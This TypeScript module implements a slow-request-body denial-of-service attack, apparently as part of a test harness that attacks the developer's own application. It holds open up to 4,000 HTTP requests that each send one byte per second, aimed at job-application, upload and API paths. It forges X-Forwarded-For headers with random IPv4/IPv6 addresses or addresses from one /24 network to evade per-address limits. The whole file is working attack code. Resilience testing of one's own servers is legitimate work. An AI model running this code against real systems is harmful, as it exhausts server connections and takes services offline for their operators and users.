import { connect, type Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import type { AttackedServer } from "./attacked-application.ts";

/** How many request bodies may be in progress at once. Each body is sent at one byte per second. */
const maxBodies = 4000;
/** How many requests are started in each tenth of a second. */
const begunPerTick = 200;

const kinds = [
  (opening: string) => [
    "POST",
    `/de/careers/de/job-application/${opening}?country=de`,
    "multipart/form-data; boundary=b",
  ],
  () => ["GET", "/health?/job-application/a", "text/plain"],
  () => ["POST", "/api/uploads", "multipart/form-data; boundary=b"],
  () => ["POST", "/api/jobapp/attachment/cv", "application/json"],
] as const;

/** A random IPv4 address or, half of the time, an address in a random IPv6 /64. The server must trust this program's `X-Forwarded-For`. */
function anyAddress(): string {
  const byte = (): number => Math.floor(Math.random() * 256);
  if (Math.random() < 0.5) return `${1 + Math.floor(Math.random() * 223)}.${byte()}.${byte()}.${byte()}`;
  const group = (): string => Math.floor(Math.random() * 65_536).toString(16);
  return `2a00:${group()}:${group()}:${group()}::1`;
}

/** Sends the headers of a request and one byte of its body. */
function begin({ address, opening }: AttackedServer, number: number, from: string): Socket {
  const { hostname, port } = new URL(address);
  const [method, path, type] = (kinds[number % kinds.length] ?? kinds[0])(opening);
  const socket = connect(Number(port), hostname, () =>
    socket.write(
      `${method} ${path} HTTP/1.1\r\nHost: ${hostname}\r\nX-Forwarded-For: ${from}\r\nContent-Type: ${type}\r\nContent-Length: 90000\r\n\r\n-`,
    ),
  );
  return socket.on("error", () => undefined).resume();
}

/**
 * Keeps 4,000 request bodies in progress, each at one byte per second, and replaces those that the server ends. Returns a function that waits for the
 * end of the attack and returns how many requests were started.
 */
async function trickle(attacked: AttackedServer, addressOf: () => string): Promise<() => Promise<number>> {
  const open = new Set<Socket>();
  let count = 0;
  const work = async (): Promise<void> => {
    let dripped = performance.now();
    while (performance.now() < attacked.until) {
      for (let some = 0; some < begunPerTick && open.size < maxBodies; some += 1) {
        const socket = begin(attacked, count, addressOf());
        count += 1;
        open.add(socket);
        socket.once("close", () => open.delete(socket));
      }
      if (performance.now() - dripped > 1000) {
        dripped = performance.now();
        for (const socket of open) socket.write("-");
      }
      await pause(100);
    }
    for (const socket of open) socket.destroy();
  };
  const all = work();
  return async () => {
    await all;
    return count;
  };
}

/**
 * Attacks with slow request bodies, either from random addresses or from one /24. The requests are forms, uploads, calls, and a GET with a body.
 */
export const attacksOnBodies = {
  bodies: (attacked: AttackedServer) => trickle(attacked, anyAddress),
  bodiesOfOneNetwork: (attacked: AttackedServer) =>
    trickle(attacked, () => `203.0.113.${Math.floor(Math.random() * 256)}`),
};
